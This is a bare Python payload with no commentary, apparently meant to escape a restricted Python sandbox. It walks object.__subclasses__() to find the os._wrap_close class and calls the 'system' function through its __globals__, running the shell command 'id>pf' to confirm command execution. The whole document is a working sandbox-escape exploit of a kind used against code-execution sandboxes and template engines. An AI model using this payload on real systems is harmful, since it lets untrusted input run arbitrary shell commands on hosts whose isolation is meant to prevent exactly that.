type(1).mro()[-1].__subclasses__()[-1]
import os
for c in object.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.close.__globals__["system"]("id>pf")
